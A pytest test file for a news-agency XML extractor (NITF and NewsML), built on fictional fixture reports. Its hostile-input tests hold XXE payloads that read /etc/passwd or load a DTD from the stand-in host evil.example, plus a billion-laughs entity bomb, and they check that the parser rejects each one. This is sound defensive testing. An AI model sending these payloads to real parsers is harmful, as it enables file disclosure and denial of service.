"""What agencies send: NITF, NewsML-G2, NewsML 1."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from parleys.errors import InputError
from parleys.record import Format, SegmentRole
from parleys.reports.formats.news_xml import extract_news_xml, open_newsml, open_nitf
from parleys.reports.originals import Extract, Original

LEAD = "MIRESH, May 4 (KPA) - Karsava said on Sunday that the crossing at Dostaghi would be opened."
QUOTE = "“We have waited for long enough,” Petr Orlov said."
NITF = f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE nitf SYSTEM "http://www.nitf.org/IPTC/NITF/3.4/specification/dtd/nitf-3-4.dtd">
<nitf xml:lang="en-GB">
  <head>
    <title>crossing</title>
    <docdata management-status="usable">
      <doc-id id-string="kpa-17"/>
      <date.issue norm="20310504T101500Z"/>
      <doc.copyright holder="Karsava Press Agency" year="2031"/>
    </docdata>
    <pubdata type="print" date.publication="20310505" name="The Velland Post"/>
  </head>
  <body>
    <body.head>
      <hedline><hl1>A crossing is <em>opened</em></hl1><hl2>Food and medicine may pass</hl2></hedline>
      <note><p>Adds quote of Orlov</p></note>
      <byline>By <person>Jana Haddad</person><byttl>Karsava Press Agency</byttl></byline>
      <dateline><location>Miresh</location>, <story.date norm="20310504">May 4</story.date></dateline>
      <abstract><p>A door opens.</p></abstract>
    </body.head>
    <body.content>
      <block><p>{LEAD}</p>
      <!-- not for print -->
      <media media-type="image"><media-reference source="a.jpg">a.jpg</media-reference>
        <media-caption>A lorry in Dostaghi.</media-caption><media-producer>Photo KPA</media-producer></media>
      <hl2>A narrow door</hl2>
      <p>{QUOTE}</p><ol><li>Food&mdash;and&#x1f;</li><li>medicine&nbsp;too</li></ol></block>
    </body.content>
    <body.end><tagline>Editing by N. N.</tagline></body.end>
  </body>
</nitf>"""


def g2_item(content: str, meta: str = "", about: str = "", kind: str = "text") -> str:
    return f"""<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:kpa:17" xml:lang="en">
    <itemMeta><itemClass qcode="ninat:{kind}"/><provider qcode="nprov:KPA"><name>Karsava Press Agency</name></provider>
    <versionCreated>2031-05-04T12:00:00Z</versionCreated><firstCreated>2031-05-04T10:00:00Z</firstCreated>
    <pubStatus qcode="stat:usable"/>{meta}</itemMeta>
    <contentMeta><contentCreated>2031-05-03T09:00:00Z</contentCreated><language tag="en-GB"/>
    <headline>A crossing is opened</headline><by>Jana Haddad</by><dateline>MIRESH, May 4 (KPA)</dateline>{about}
    </contentMeta><contentSet>{content}</contentSet></newsItem>"""


INLINE = (
    '<inlineXML contenttype="application/xhtml+xml"><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title>'
    f"</head><body><h1>A crossing is opened</h1><p>{LEAD}</p><p>{QUOTE}</p></body></html></inlineXML>"
)


def newsml_1(content: str, status: str = "Usable") -> str:
    return f"""<?xml version="1.0"?><!DOCTYPE NewsML PUBLIC "urn:newsml:iptc.org:NewsMLv1.1:1" "NewsML_1.1.dtd">
    <NewsML><NewsEnvelope><DateAndTime>20310504T120000Z</DateAndTime></NewsEnvelope>
    <NewsItem><Identification><NewsIdentifier><ProviderId>kpa.example</ProviderId></NewsIdentifier></Identification>
    <NewsManagement><FirstCreated>20310504T100000Z</FirstCreated>
    <ThisRevisionCreated>20310504T120000Z</ThisRevisionCreated><Status FormalName="{status}"/></NewsManagement>
    <NewsComponent><NewsLines><HeadLine>A crossing is opened</HeadLine><ByLine>By Jana Haddad</ByLine>
    <DateLine>MIRESH, May 4</DateLine></NewsLines>
    <AdministrativeMetadata><Provider><Party FormalName="KPA"/></Provider></AdministrativeMetadata>
    <DescriptiveMetadata><Language FormalName="en"/></DescriptiveMetadata>
    <NewsComponent><Role FormalName="Main"/><ContentItem><MediaType FormalName="Text"/>
    <DataContent>{content}</DataContent></ContentItem></NewsComponent>
    <NewsComponent><Role FormalName="Caption"/><ContentItem><DataContent>A lorry in Dostaghi.</DataContent>
    </ContentItem></NewsComponent>
    <NewsComponent><ContentItem Href="a.jpg"><MediaType FormalName="Photo"/></ContentItem></NewsComponent>
    </NewsComponent></NewsItem></NewsML>"""


def extract(xml: str | bytes, form: Format = Format.NEWSML) -> Extract:
    raw = xml if isinstance(xml, bytes) else xml.encode()
    [original] = open_nitf(raw, "a.xml") if form is Format.NITF else open_newsml(raw, "a.xml")
    if isinstance(original, InputError):
        raise original
    assert original.raw == raw
    assert original.format is form
    return extract_news_xml(original)


def outlined(made: Extract) -> list[tuple[SegmentRole, str]]:
    return [(each.role, made.text[each.start : each.end]) for each in made.outline]


def test_nitf() -> None:
    """Head, paragraphs, lists and captions come in order; entities that agencies use are their characters."""
    made = extract(NITF, Format.NITF)
    assert made.text.split("\n\n") == [
        "A crossing is opened",
        "Food and medicine may pass",
        "Adds quote of Orlov",
        "By Jana Haddad",
        "Karsava Press Agency",
        "Miresh, May 4",
        "A door opens.",
        LEAD,
        "A lorry in Dostaghi.",
        "Photo KPA",
        "A narrow door",
        QUOTE,
        "Food—and",
        "medicine too",
        "Editing by N. N.",
    ]
    assert outlined(made) == [
        (SegmentRole.HEADING, "A crossing is opened"),
        (SegmentRole.HEADING, "Food and medicine may pass"),
        (SegmentRole.FURNITURE, "Adds quote of Orlov"),
        (SegmentRole.FURNITURE, "Miresh, May 4"),
        (SegmentRole.CAPTION, "A lorry in Dostaghi."),
        (SegmentRole.FURNITURE, "Photo KPA"),
        (SegmentRole.HEADING, "A narrow door"),
        (SegmentRole.FURNITURE, "Editing by N. N."),
    ]
    told = made.metadata
    assert (told.title, told.byline, told.outlet) == ("A crossing is opened", "Jana Haddad", "The Velland Post")
    assert (told.language, told.published) == ("en", "20310505")
    assert made.extractor == f"lxml {etree.__version__}"


def test_nitf_days() -> None:
    """The day in print goes before the day of sending, and that before the day of writing."""
    no_print = NITF.replace(' date.publication="20310505"', "")
    assert extract(no_print, Format.NITF).metadata.published == "20310504T101500Z"
    no_issue = no_print.replace('<date.issue norm="20310504T101500Z"/>', "")
    assert extract(no_issue, Format.NITF).metadata.published == "20310504"
    bare = extract(f"<nitf><head><title>A crossing</title></head><body><p>{LEAD}</p></body></nitf>", Format.NITF)
    assert bare.text == f"A crossing\n\n{LEAD}"
    assert bare.metadata.published is None
    assert bare.metadata.title == "A crossing"


def test_nitf_bylines() -> None:
    """A title behind the name is in the line and not in the name; a line without a person is taken as it is."""
    line = "<byline>By <person>Jana Haddad</person><byttl>Karsava Press Agency</byttl></byline>"
    for other, name, said in (
        (
            "<byline>By Jana Haddad, <byttl>Staff</byttl></byline>",
            "By Jana Haddad",
            "Haddad, Staff",
        ),
        ("<byline><byttl>Karsava Press Agency</byttl></byline>", "Karsava Press Agency", "Karsava Press Agency\n"),
    ):
        made = extract(NITF.replace(line, other), Format.NITF)
        assert made.metadata.byline == name
        assert said in made.text


def test_copy_of_the_lead() -> None:
    """A lead that an archive keeps twice is read once."""
    lead, whole = f'<block class="lead"><p>{LEAD}</p></block>', f"<block><p>{LEAD}</p><p>{QUOTE}</p></block>"
    xml = f"<nitf><body><body.content>{lead}{whole}</body.content></body></nitf>"
    assert extract(xml, Format.NITF).text == f"{LEAD}\n\n{QUOTE}"


def test_withdrawn() -> None:
    """A report that its agency has taken back, or holds back, is read, and that is told."""
    killed = extract(NITF.replace('"usable"', '"killed"'), Format.NITF)
    g2 = extract(g2_item(INLINE).replace("stat:usable", "stat:canceled"))
    old = extract(newsml_1(LEAD, "Canceled"))
    for made in (killed, g2, old):
        assert [problem.message for problem in made.problems] == ["the agency has withdrawn this report"]
    held = extract(g2_item(INLINE, "<embargoed>2031-05-06T00:00:00Z</embargoed>"))
    assert [problem.message for problem in held.problems] == [
        "not to be published before 2031-05-06T00:00:00Z, says the agency"
    ]


def test_newsml_g2() -> None:
    """The headline is not said twice; a dateline that opens the text is not a line of its own."""
    made = extract(g2_item(INLINE))
    assert made.text.split("\n\n") == ["A crossing is opened", "Jana Haddad", LEAD, QUOTE]
    told = made.metadata
    assert (told.title, told.byline, told.outlet) == ("A crossing is opened", "Jana Haddad", "Karsava Press Agency")
    assert (told.language, told.published) == ("en", "2031-05-04T10:00:00Z")
    assert made.problems == ()


def test_newsml_g2_fallbacks() -> None:
    """Where the usual places are empty, the item's title, its creator and the holder of its rights are asked."""
    xml = (
        "<newsItem><rightsInfo><copyrightHolder><name>KPA</name></copyrightHolder></rightsInfo>"
        '<itemMeta><provider uri="http://kpa.example/"/><versionCreated>2031-05-04</versionCreated>'
        "<title>A crossing</title></itemMeta><contentMeta><creator><name>Jana Haddad</name></creator></contentMeta>"
        f"<contentSet>{INLINE}</contentSet></newsItem>"
    )
    told = extract(xml).metadata
    assert (told.title, told.byline, told.outlet, told.published) == ("A crossing", "Jana Haddad", "KPA", "2031-05-04")


def test_newsml_g2_with_nitf() -> None:
    """NITF inside an item is read as NITF is; its day in print goes before the day of the item."""
    inside = NITF.split('.dtd">', 1)[1].replace("&mdash;", "-").replace("&nbsp;", " ").replace("&#x1f;", "")
    made = extract(g2_item(f'<inlineXML contenttype="application/nitf+xml">{inside}</inlineXML>'))
    assert made.text.count("A crossing is opened") == 1
    assert made.metadata.published == "20310505"
    assert made.metadata.outlet == "Karsava Press Agency"
    assert (SegmentRole.CAPTION, "A lorry in Dostaghi.") in outlined(made)


@pytest.mark.parametrize(
    "content",
    [
        f"{LEAD}\n\n{QUOTE}",
        f"   {LEAD[:44]}\n{LEAD[45:]}\n   {QUOTE}",
        f"&lt;p&gt;{LEAD}&lt;/p&gt;&lt;p&gt;{QUOTE}&lt;/p&gt;",
        f"<![CDATA[<html><body>{LEAD}<br><br>{QUOTE}<script>x()</script></body></html>]]>",
    ],
)
def test_content_as_text(content: str) -> None:
    """Content as plain text, wrapped or not, and HTML written as text give their paragraphs."""
    made = extract(g2_item(f'<inlineData contenttype="text/plain">{content}</inlineData>'))
    assert made.text.split("\n\n") == ["A crossing is opened", "Jana Haddad", LEAD, QUOTE]
    old = extract(newsml_1(content))
    assert old.text.split("\n\n") == [
        "A crossing is opened",
        "By Jana Haddad",
        LEAD,
        QUOTE,
        "A lorry in Dostaghi.",
    ]


def test_newsml_1() -> None:
    """The older NewsML is read with its lines, its provider and its first day."""
    made = extract(newsml_1(f"<nitf><body><body.content><p>{LEAD}</p></body.content></body></nitf>"))
    assert made.text.split("\n\n")[:3] == ["A crossing is opened", "By Jana Haddad", LEAD]
    assert outlined(made)[-1] == (SegmentRole.CAPTION, "A lorry in Dostaghi.")
    told = made.metadata
    assert (told.outlet, told.byline, told.language) == ("KPA", "By Jana Haddad", "en")
    assert told.published == "20310504T100000Z"


def test_same_report_in_several_forms() -> None:
    """A report that an item holds in several forms is read once."""
    plain = f"<inlineData>{LEAD}\n\n{QUOTE}</inlineData>"
    assert extract(g2_item(plain + INLINE)).text == extract(g2_item(INLINE)).text
    items = "".join(f"<ContentItem><DataContent>{LEAD}</DataContent></ContentItem>" for _ in range(2))
    apart = "".join(f"<NewsComponent>{item}</NewsComponent>" for item in (items, items))
    for old in (
        f"<NewsItem><NewsComponent>{items}</NewsComponent></NewsItem>",
        f'<NewsItem><NewsComponent EquivalentsList="yes">{apart}</NewsComponent></NewsItem>',
    ):
        assert extract(old).text == LEAD


def test_dateline_of_its_own() -> None:
    """A dateline that stands beside the text and not in it is a line of its own, and no heading."""
    made = extract(g2_item(f"<inlineData>{LEAD.partition(' - ')[2]}</inlineData>"))
    assert made.text.split("\n\n")[:3] == ["A crossing is opened", "Jana Haddad", "MIRESH, May 4 (KPA)"]
    assert outlined(made)[-1] == (SegmentRole.FURNITURE, "MIRESH, May 4 (KPA)")


def test_message_of_several_items() -> None:
    """Each report of a message is one; pictures are left, and what only points elsewhere is told."""
    second = INLINE.replace("crossing", "bridge")
    package = '<packageItem xmlns="http://iptc.org/std/nar/2006-10-01/"><groupSet/></packageItem>'
    message = (
        '<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/"><header><sent>2031-05-04</sent></header><itemSet>'
        f"{g2_item(INLINE)}{g2_item('', kind='picture')}{package}{g2_item(second)}</itemSet></newsMessage>"
    )
    first, told, other = open_newsml(message.encode(), "a.xml")
    assert isinstance(first, Original)
    assert isinstance(other, Original)
    assert isinstance(told, InputError)
    assert told.reason == "a list that only points to other reports: fetch the reports themselves"
    assert [first.source, told.place, other.source] == ["a.xml:1", "a.xml:2", "a.xml:3"]
    assert "bridge" in extract_news_xml(other).text
    assert "bridge" not in extract_news_xml(first).text
    assert first.id != other.id


@pytest.mark.parametrize(
    "xml",
    [
        g2_item('<remoteContent href="a.xml"/>'),
        g2_item("", kind="picture"),
        "<newsMessage><itemSet/></newsMessage>",
        "<packageItem/>",
        newsml_1(""),
    ],
)
def test_no_text(xml: str) -> None:
    """An item that holds no text, but points to it or shows a picture, is told."""
    with pytest.raises(InputError, match=r"a\.xml: (?:no (?:text|report) in|a list that only points)"):
        extract(xml)


BOMB = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))


@pytest.mark.parametrize(
    ("raw", "said"),
    [
        (b'<!DOCTYPE nitf [<!ENTITY x SYSTEM "file:///etc/passwd">]><nitf><p>&x;</p></nitf>', "never resolved"),
        (f'<!DOCTYPE nitf [<!ENTITY l0 "lol">{BOMB}]><nitf>&l9;</nitf>'.encode(), "never resolved"),
        (f'<!DOCTYPE nitf [<!ENTITY l0 "lol">{BOMB}]><nitf>&l9;</nitf>'.encode("utf-16"), "never resolved"),
        (b'<!DOCTYPE nitf [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><nitf/>', "never resolved"),
        (b"<nitf>" + b"<block>" * 10_000 + b"x" + b"</block>" * 10_000 + b"</nitf>", "nested too deep"),
        (b"<nitf><body><p>" + b"x" * 50_000_000 + b"</p></body></nitf>", "too big: 50 MB"),
        (NITF.encode()[:900], "breaks off"),
        (b"<nitf><body><p>a < b</p></body></nitf>", "broken"),
        (b"", "empty"),
    ],
)
def test_hostile(raw: bytes, said: str) -> None:
    """Entities of a file's own, nesting without end, too big a file and a broken one are one problem each."""
    with pytest.raises(InputError, match=said):
        extract(raw, Format.NITF)
    assert [type(found) for found in open_newsml(raw, "a.xml")] == [InputError]


def test_dtd_is_not_loaded() -> None:
    """A DTD that the file names is neither loaded nor missed."""
    named = NITF.replace("http://www.nitf.org/IPTC/NITF/3.4/specification/dtd/nitf-3-4.dtd", "file:///etc/passwd")
    assert extract(named, Format.NITF).text == extract(NITF, Format.NITF).text
    assert "&secret;" in extract(NITF.replace("A door opens.", "A &secret; opens."), Format.NITF).text


@pytest.mark.parametrize(
    ("declared", "encoding"),
    [("UTF-8", "cp1252"), ("UTF-16", "utf-8"), ("klingon", "utf-8"), ("hex", "utf-8"), ("ISO-8859-1", "cp1252")],
)
def test_wrong_encoding(declared: str, encoding: str) -> None:
    """A wrong word on the encoding costs no report, where the bytes show what they are."""
    head = f'<?xml version="1.0" encoding="{declared}"?>'
    xml = f"{head}<nitf><body><p>The café in Miresh was shut, he said.</p></body></nitf>"
    assert extract(xml.encode(encoding), Format.NITF).text == "The café in Miresh was shut, he said."
    wide = f'<?xml version="1.0" encoding="UTF-16"?><nitf><body><p>{LEAD}</p></body></nitf>'
    assert extract(wide.encode("utf-16"), Format.NITF).text == LEAD


@given(st.sampled_from((NITF, g2_item(INLINE), newsml_1(LEAD))), st.data())
@settings(max_examples=80, deadline=None)
def test_nothing_gets_out(xml: str, data: st.DataObject) -> None:
    """However the XML is broken, there is a text with its outline inside or a problem, and no other error."""
    raw = bytearray(xml.encode())
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(raw) - 1))
        raw[at : at + data.draw(st.integers(0, 20))] = data.draw(st.binary(max_size=4))
    try:
        made = extract(bytes(raw), Format.NITF if xml is NITF else Format.NEWSML)
    except InputError:
        return
    assert made.text
    assert all(0 <= each.start < each.end <= len(made.text) for each in made.outline)
